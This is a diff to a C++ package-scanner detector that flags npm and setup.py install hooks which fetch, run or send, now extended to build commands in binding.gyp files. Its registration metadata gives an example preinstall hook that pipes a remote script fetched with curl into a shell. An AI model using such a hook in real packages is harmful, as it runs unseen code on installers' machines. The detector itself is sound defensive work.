@@ -150,7 +150,7 @@ class InstallHook final : public Detector {
 
   bool wants(const layers::FileInfo& file) const override {
     return file.size() <= k_most_bytes && file.entry.content == layers::ContentKind::text &&
-           (is_package(file) || is_setup(file));
+           (is_package(file) || is_setup(file) || file.name() == "binding.gyp");
   }
 
   void collect(const layers::FileView& file, EvidenceSink& out) const override {
@@ -158,6 +158,7 @@ class InstallHook final : public Detector {
       look_at_setup(file.text(), out);
       return;
     }
+    if (file.name() == "binding.gyp") return look_at_build(file.text(), out);
     if (file.text().find("install\"") == std::string_view::npos && file.text().find("prep") == std::string_view::npos)
       return;
     const std::string_view folder = layers::parent_path(file.path());
@@ -187,6 +188,14 @@ class InstallHook final : public Detector {
     std::map<std::string_view, const PlacedEvidence*> worst;
     for (const PlacedEvidence& other : context.evidence) {
       const char kind = family(other.evidence.rule);
+      // What script-flow makes of these while this detector works, it makes for the same files.
+      const bool noted = other.evidence.rule == k_hint_rule &&
+                         (!other.evidence.value("fetched").empty() || !other.evidence.value("command").empty());
+      if (noted) {
+        const PlacedEvidence*& place = worst[other.path];
+        if (place == nullptr) place = &other;
+        continue;
+      }
       const bool bad = other.evidence.cls <= EvidenceClass::supporting &&
                        (kind == 'D' || kind == 'B' || kind == 'L' || kind == 'H' || kind == 'M');
       if (!bad || other.evidence.rule == k_hint_rule) continue;
@@ -201,12 +210,14 @@ class InstallHook final : public Detector {
       if (found == worst.end()) found = worst.find(with_suffix);
       if (found == worst.end()) continue;
       const Evidence& seen = found->second->evidence;
+      const bool hint = seen.rule == k_hint_rule;
+      const std::string rule = hint ? "D01" : seen.rule;
       const bool runtime = seen.rule == "L07";
       PlacedEvidence more = placed;
-      more.evidence = evidence_of(k_rows[runtime ? 2 : 0],
-                                  placed.evidence.text + " runs a file with " + seen.rule + ": " + seen.text);
+      more.evidence =
+          evidence_of(k_rows[runtime ? 2 : 0], placed.evidence.text + " runs a file with " + rule + ": " + seen.text);
       more.evidence.line = placed.evidence.line;
-      if (seen.cls == EvidenceClass::supporting && !runtime) more.evidence.cls = EvidenceClass::supporting;
+      if (seen.cls == EvidenceClass::supporting && !runtime && !hint) more.evidence.cls = EvidenceClass::supporting;
       out.add(std::move(more));
     }
   }
@@ -216,6 +227,28 @@ class InstallHook final : public Detector {
     Evidence evidence = evidence_of(k_rows[row], std::move(text));
     evidence.line = hook.line;
     out.add(std::move(evidence));
+  }
+
+  // "<!(command)" and "<!@(command)" of gyp, which npm runs for a package without a hook of its own.
+  static void look_at_build(std::string_view text, EvidenceSink& out) {
+    std::uint32_t line = 1;
+    std::size_t seen = 0;
+    for (std::size_t at = text.find("<!"), count = 0; at != std::string_view::npos && count < 64;
+         at = text.find("<!", at + 2), ++count) {
+      const std::size_t open = at + (text.substr(at + 2, 1) == "@" ? 3 : 2);
+      if (text.substr(open, 1) != "(") continue;
+      std::size_t end = open + 1;
+      for (int depth = 1; end < text.size() && text[end] != '\n'; ++end) {
+        depth += text[end] == '(' ? 1 : text[end] == ')' ? -1 : 0;
+        if (depth == 0) break;
+      }
+      line += static_cast<std::uint32_t>(std::count(text.begin() + static_cast<std::ptrdiff_t>(seen),
+                                                    text.begin() + static_cast<std::ptrdiff_t>(at), '\n'));
+      seen = at;
+      const std::string command(text.substr(open + 1, end - open - 1));
+      if (const std::string what = what_it_does(facts_of_text(command)); !what.empty())
+        add(out, 0, {"binding.gyp", command, line}, "binding.gyp " + what);
+    }
   }
 
   static void look_at_setup(std::string_view text, EvidenceSink& out) {
@@ -246,7 +279,7 @@ class InstallHook final : public Detector {
 
 const util::Registered<InstallHook> registered{{
     .id = "install-hook",
-    .version = 2,
+    .version = 3,
     .summary = "install hooks of npm packages and setup.py that fetch, run or send",
     .example = "\"preinstall\": \"curl -s http://192.0.2.1/x | sh\"",
     .rules = k_rows,
